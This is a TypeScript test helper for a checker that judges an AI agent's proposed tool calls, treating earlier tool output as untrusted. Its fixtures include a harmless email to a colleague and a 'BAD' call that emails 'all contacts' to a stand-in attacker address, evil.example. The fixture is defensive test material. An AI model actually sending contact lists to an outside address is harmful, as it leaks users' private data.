/** A turn after what the user said and earlier calls returned, and the verdict on it. */
import type { ToolCall, TurnHistory } from '../../../../contract/turn.ts';
import { analyze } from './analyzer.ts';
import { inputOf } from './analyzer.fixture.ts';
import { deriveVerdict } from './verdict.ts';

export type Made = readonly [name: string, args: unknown];
export interface Scene {
  readonly users: readonly string[];
  readonly proposal?: string;
  /** Earlier calls with what they returned. */
  readonly done?: readonly (readonly [...Made, result: string])[];
  readonly call: Made;
  readonly think?: string;
  readonly answers?: TurnHistory['answers'];
}

const toolCall = ([name, args]: Made | readonly [...Made, string], id: string): ToolCall => ({
  id,
  name,
  argumentsText: JSON.stringify(args),
});

export function verdictOf({ users, proposal = '', done = [], call, think = '', answers }: Scene) {
  const calls = done.map((one, i) => toolCall(one, `call_${i}`));
  const { concerns } = analyze({
    ...inputOf({
      reasoning: think,
      user: users.at(-1) ?? '',
      untrusted: done.map(([, , result]) => result),
      calls: [toolCall(call, 'now')],
    }),
    history: { users, proposal, calls, answers: answers ?? calls.map(({ id }) => id) },
  });
  return deriveVerdict(concerns);
}

export const ANNA = 'anna@birch.example';
export const MAIL: Made = ['send_email', { to: ANNA, subject: 'Minutes', body: 'Please send me your comments.' }];
export const EVIL = 'drop@evil.example';
export const BAD: Made = ['send_email', { to: EVIL, body: 'all contacts' }];
